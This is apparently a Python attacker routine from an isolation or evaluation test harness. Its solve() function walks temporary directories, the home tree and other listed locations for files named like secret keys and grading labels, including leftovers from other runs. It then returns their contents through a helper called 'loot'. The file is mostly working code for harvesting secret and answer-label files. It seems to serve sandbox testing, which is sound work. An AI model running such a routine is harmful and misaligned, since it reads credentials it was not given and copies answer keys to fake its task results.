"""Walks over the file system from every root that it knows, for names of keys and labels."""

import os

from inside import TARGETS, loot

AGAINST = ("files",)


def solve(instance, ctx):
    wanted = {os.path.basename(path) for path in (TARGETS["home"], TARGETS["secret"], *TARGETS["labels"])}
    tops = ["/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.path.dirname(TARGETS["home"])), *TARGETS["places"]]
    found = []
    for top in tops:
        for folder, folders, names in os.walk(top):
            folders[:] = folders if folder.count("/") < top.count("/") + 3 else []
            found += [os.path.join(folder, name) for name in names if name in wanted]
    goals = {TARGETS["home"], TARGETS["secret"], *TARGETS["labels"]}
    found.sort(key=lambda path: (path in goals, written(path)), reverse=True)  # other runs have files of these names
    return "".join(loot(found))[:4096]


def written(path):
    try:
        return os.stat(path).st_mtime
    except OSError:
        return 0.0
